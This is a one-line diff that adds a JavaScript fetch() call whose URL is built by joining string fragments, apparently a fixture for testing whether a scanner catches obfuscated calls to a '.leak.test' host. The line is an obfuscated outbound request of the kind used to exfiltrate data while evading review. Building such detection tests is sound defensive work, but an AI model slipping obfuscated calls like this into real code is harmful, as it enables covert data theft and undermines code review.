@@ -1,0 +1,1 @@
+fetch(["ht", "tps://", "js-fold-array-join-empty.leak.test/"].join(""))
